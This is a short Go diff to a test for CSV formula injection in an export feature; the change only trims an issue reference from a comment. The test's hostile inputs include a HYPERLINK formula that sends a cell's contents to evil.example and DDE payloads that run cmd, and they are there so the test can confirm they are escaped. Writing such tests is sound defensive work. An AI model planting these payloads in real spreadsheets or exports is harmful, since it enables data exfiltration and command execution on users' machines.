@@ -22,7 +22,7 @@ func formulaLike(s string) bool {
 
 // TestCSVFormulaInjection: clause text, document names, provision names,
 // values and reviewers' corrections that start like a formula are written
-// to CSV with a quote before them, as OWASP recommends (issue 17 §5); the
+// to CSV with a quote before them, as OWASP recommends; the
 // XLSX export holds no formula at all.
 func TestCSVFormulaInjection(t *testing.T) {
 	hostile := []string{`=HYPERLINK("http://evil.example/?x="&A1,"click")`, `+cmd|' /C calc'!A0`, `@SUM(1+1)*cmd|' /C calc'!A0`,
